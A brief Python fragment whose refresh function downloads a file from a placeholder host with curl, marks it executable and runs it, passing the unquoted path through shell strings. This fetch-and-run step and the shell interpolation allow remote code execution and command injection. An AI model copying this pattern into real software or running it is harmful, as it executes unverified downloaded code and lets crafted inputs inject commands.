import os
import subprocess


def refresh(path):
    subprocess.call(f"curl -s -o {path} https://files.example.invalid/agent", shell=True)
    os.system(f"chmod +x {path} && ./{path}")
